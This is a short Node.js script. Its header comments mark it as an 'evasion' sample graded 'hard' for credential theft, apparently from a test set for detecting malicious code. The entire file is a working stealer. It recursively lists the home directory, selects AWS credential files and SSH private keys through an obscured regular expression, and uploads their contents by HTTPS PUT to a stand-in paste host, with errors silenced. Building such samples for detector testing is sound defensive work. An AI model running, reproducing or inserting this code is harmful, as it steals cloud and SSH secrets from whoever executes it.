// evasion: the home directory listed recursively; AWS and SSH credential files picked by a regular expression over relative paths, never written as a path
// grade: hard; does: credentials
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const home = os.homedir();
const wanted = /^\.(a\w{2}|s\w{2})\/(cred\w*|id_\w+)$/;

let listing = [];
try {
  listing = fs.readdirSync(home, { recursive: true });
} catch {}

const blob = listing
  .filter((rel) => wanted.test(rel))
  .map((rel) => `== ${rel}\n${fs.readFileSync(path.join(home, rel), 'utf8')}`)
  .join('\n');

const req = https.request({ host: 'paste.example.org', path: '/api/new', method: 'PUT' });
req.on('error', () => {});
req.end(blob);
